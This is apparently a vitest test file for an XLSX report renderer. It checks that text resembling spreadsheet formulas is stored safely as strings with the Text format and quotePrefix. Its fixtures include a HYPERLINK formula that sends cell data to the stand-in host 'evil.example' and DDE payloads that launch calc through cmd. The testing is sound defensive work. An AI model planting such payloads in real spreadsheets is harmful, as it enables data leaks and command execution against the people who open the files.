/**
 * Formula / CSV injection in the XLSX output (src/render/xlsx.ts): text that a spreadsheet could
 * take for a formula is written as a string, with the Text format and quotePrefix, and unchanged.
 */
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { Report } from '../src/model/report.js';
import { parseBytes } from '../src/parse.js';
import { looksLikeFormula, quotePrefixed, renderXlsx } from '../src/render/xlsx.js';
import { sampleReport2019, sampleReport2021 } from './helpers/arbitrary.js';

const AGENCY = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';
const OVERVIEW = '=HYPERLINK("http://evil.example/","本年度概述")';
const PROBLEMS = "+cmd|' /C calc'!A0";
const OTHER = "@SUM(1+1)*cmd|' /C calc'!A0";
const AMOUNT = "-2+3+cmd|' /C calc'!A0";

interface XCell {
  sheet: string;
  ref: string;
  type: string | null;
  style: number;
  formula: boolean;
  text: string | null;
}

/** every cell of every sheet, with its type, style index, formula (if any) and shared-string text */
function cells(files: Record<string, Uint8Array>): XCell[] {
  const strings = [...strFromU8(files['xl/sharedStrings.xml']).matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) =>
    [...m[1].matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => unxml(t[1])).join(''),
  );
  const out: XCell[] = [];
  for (const [name, data] of Object.entries(files)) {
    if (!/^xl\/worksheets\/sheet\d+\.xml$/.test(name)) continue;
    for (const m of strFromU8(data).matchAll(/<c\b([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
      const attrs = m[1];
      const body = m[2] ?? '';
      const type = /\bt="([^"]+)"/.exec(attrs)?.[1] ?? null;
      const v = /<v>([\s\S]*?)<\/v>/.exec(body)?.[1];
      const inline = /<is>([\s\S]*?)<\/is>/.exec(body)?.[1];
      out.push({
        sheet: name,
        ref: /\br="([^"]+)"/.exec(attrs)![1],
        type,
        style: Number(/\bs="(\d+)"/.exec(attrs)?.[1] ?? 0),
        formula: /<f[\s>/]/.test(body),
        text:
          type === 's' && v !== undefined
            ? strings[Number(v)]
            : type === 'inlineStr' && inline
              ? unxml(inline.replace(/<[^>]+>/g, ''))
              : null,
      });
    }
  }
  return out;
}

function unxml(s: string): string {
  return s
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&amp;/g, '&');
}

/** the attributes of each <xf> of cellXfs */
function cellXfs(styles: string): string[] {
  const xfs = /<cellXfs\b[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)![1];
  return [...xfs.matchAll(/<xf\b([^>]*?)\/?>/g)].map((m) => m[1]);
}

function hostile2021(): Report {
  const r = sampleReport2021();
  r.agency = AGENCY;
  r.sections = { overview: OVERVIEW, problems: `${PROBLEMS}\n\t=1+1 after a tab`, other: OTHER };
  return r;
}

describe('XLSX: no text is a formula', () => {
  it('agency name and narrative starting with =HYPERLINK(…), +, @, a tab are strings with the Text format and quotePrefix', async () => {
    const files = unzipSync(await renderXlsx(hostile2021()));
    const all = cells(files);
    expect(all.some((c) => c.formula)).toBe(false);
    const xfs = cellXfs(strFromU8(files['xl/styles.xml']));
    const hostile = all.filter((c) => c.text !== null && looksLikeFormula(c.text));
    const texts = hostile.map((c) => c.text);
    // the signature holds the agency name; the title starts with it
    expect(texts).toEqual(
      expect.arrayContaining([AGENCY, `${AGENCY}2022年政府信息公开工作年度报告`, OVERVIEW, PROBLEMS, '\t=1+1 after a tab', OTHER]),
    );
    for (const c of hostile) {
      expect(c.type, c.ref).toBe('s');
      expect(xfs[c.style], c.ref).toMatch(/\bquotePrefix="1"/);
      expect(xfs[c.style], c.ref).toMatch(/\bnumFmtId="49"/);
    }
    // other text is left alone
    const plain = all.filter((c) => c.text !== null && !looksLikeFormula(c.text));
    expect(plain.length).toBeGreaterThan(20);
    for (const c of plain) expect(xfs[c.style] ?? '', c.ref).not.toMatch(/quotePrefix/);
  });

  it('a text value in a table (2019 procurement amount) starting with - is protected too', async () => {
    const r = sampleReport2019();
    (r.proactive as { procurement: { amount: string } }).procurement.amount = AMOUNT;
    const files = unzipSync(await renderXlsx(r));
    const all = cells(files);
    expect(all.some((c) => c.formula)).toBe(false);
    const cell = all.find((c) => c.text === AMOUNT)!;
    expect(cell).toMatchObject({ type: 's' });
    expect(cellXfs(strFromU8(files['xl/styles.xml']))[cell.style]).toMatch(/quotePrefix="1"/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await renderXlsx(r)) as unknown as ArrayBuffer);
    const found: unknown[] = [];
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => void (c.value === AMOUNT && found.push(c.numFmt)))));
    // (a merged cell is listed for each cell it covers)
    expect(found.length).toBeGreaterThan(0);
    expect(new Set(found)).toEqual(new Set(['@']));
  });

  it('the text is unchanged: ExcelJS reads strings (not formulas), and our reader reads the report back', async () => {
    const r = hostile2021();
    const bytes = await renderXlsx(r);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
    const values: unknown[] = [];
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => void values.push(c.value))));
    expect(values.every((v) => v === null || typeof v === 'string' || typeof v === 'number')).toBe(true);
    expect(values).toEqual(expect.arrayContaining([AGENCY, OVERVIEW, OTHER]));
    const back = await parseBytes(bytes, 'r.xlsx');
    expect(back.sections.overview).toBe(OVERVIEW);
    // (the signature's agency name follows the last section: a name that is no agency's stays in it)
    expect(back.sections.other?.split('\n')[0]).toBe(OTHER);
    // (the reader trims paragraphs; the cell holds the tab: see the first test)
    expect(back.sections.problems).toBe(`${PROBLEMS}\n=1+1 after a tab`);
    expect(back.agency).toBe(AGENCY);
  });

  it('quotePrefixed marks only the Text-format cell formats', () => {
    const styles =
      '<styleSheet><cellStyleXfs count="1"><xf numFmtId="49" fontId="0"/></cellStyleXfs><cellXfs count="3"><xf numFmtId="0" fontId="0" xfId="0"/><xf numFmtId="49" fontId="1" xfId="0" applyNumberFormat="1"><alignment wrapText="1"/></xf><xf numFmtId="2" xfId="0"/></cellXfs></styleSheet>';
    expect(quotePrefixed(styles)).toBe(
      '<styleSheet><cellStyleXfs count="1"><xf numFmtId="49" fontId="0"/></cellStyleXfs><cellXfs count="3"><xf numFmtId="0" fontId="0" xfId="0"/><xf numFmtId="49" fontId="1" xfId="0" applyNumberFormat="1" quotePrefix="1"><alignment wrapText="1"/></xf><xf numFmtId="2" xfId="0"/></cellXfs></styleSheet>',
    );
    expect(quotePrefixed(quotePrefixed(styles))).toBe(quotePrefixed(styles));
    expect(['=1', '+1', '-1', '@a', '\tx', '\rx', '＝1', 'a=1', ' =1', '12'].map(looksLikeFormula)).toEqual([
      true,
      true,
      true,
      true,
      true,
      true,
      true,
      false,
      false,
      false,
    ]);
  });
});
